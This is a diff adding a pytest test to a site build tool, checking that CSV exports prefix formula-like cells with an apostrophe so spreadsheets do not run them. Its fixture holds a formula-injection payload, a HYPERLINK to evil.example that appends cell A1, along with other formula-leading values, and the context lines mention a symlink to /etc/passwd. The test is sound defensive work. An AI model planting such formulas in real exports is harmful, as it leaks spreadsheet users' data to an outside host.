@@ -301,3 +301,33 @@ def test_a_symbolic_link_in_the_theme_overrides_is_refused(tmp_path):
     assert ("overrides/leak.txt: is a symbolic link (to /etc/passwd); the site publishes only files kept in the "
             "overrides folder itself") in build.output, build.output
     assert not (build.site / "leak.txt").exists()
+
+
+# -- open data: CSV cells are never formulas ----------------------------------------------------------
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(tmp_path):
+    import csv
+    import io
+    import json
+
+    fixture = (ROOT / "tests/fixtures/basic/content/areas/1-finding/1-3-unrated.md").read_text(encoding="utf-8")
+    page = fixture.replace("title: An unrated action past its date",
+                           'title: \'=HYPERLINK("https://evil.example/?"&A1,"Click")\'\n'
+                           "leads: ['@SUM(1+1)', '-2+3', Head of Service]\ndue_text: '+44 7700 900000'")
+    assert page != fixture
+    project = make_project(tmp_path, files={"content/areas/1-finding/1-3-unrated.md": page})
+    build = run_build(project)
+    assert build.returncode == 0, build.output
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(
+        (build.site / "data/actions.csv").read_text(encoding="utf-8")))}
+    row = rows["1.3"]
+    assert row["title"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    assert row["leads"] == "'@SUM(1+1) | -2+3 | Head of Service"
+    assert row["due_text"] == "'+44 7700 900000"
+    assert rows["1.1"]["title"] == "A red action that is late"  # ordinary text is unchanged
+    for other in rows.values():
+        for name, cell in other.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (other["id"], name, cell)
+    action = next(a for a in json.loads((build.site / "data/actions.json").read_text())["actions"] if a["id"] == "1.3")
+    assert action["title"] == '=HYPERLINK("https://evil.example/?"&A1,"Click")'  # JSON keeps the value as written
+    assert action["leads"] == ["@SUM(1+1)", "-2+3", "Head of Service"]
